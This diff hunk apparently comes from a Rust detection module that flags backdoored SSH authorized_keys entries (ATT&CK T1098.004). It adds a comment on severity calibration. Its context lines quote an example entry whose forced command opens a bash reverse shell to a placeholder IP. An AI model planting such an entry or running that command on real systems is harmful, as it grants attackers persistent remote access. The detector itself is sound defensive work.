@@ -17,6 +17,10 @@
 //! **Example:** `/root/.ssh/authorized_keys:3 command="bash -i >& /dev/tcp/203.0.113.5/443 0>&1"
 //! ssh-ed25519 SHA256:… x@kali`.
 //!
+//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
+//! high); critical or high only for evidence that an attacker acted, medium for what needs a
+//! look, low and info for context (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1098.004 (Account Manipulation: SSH Authorized Keys).
 
 use std::collections::{BTreeMap, BTreeSet, HashSet};
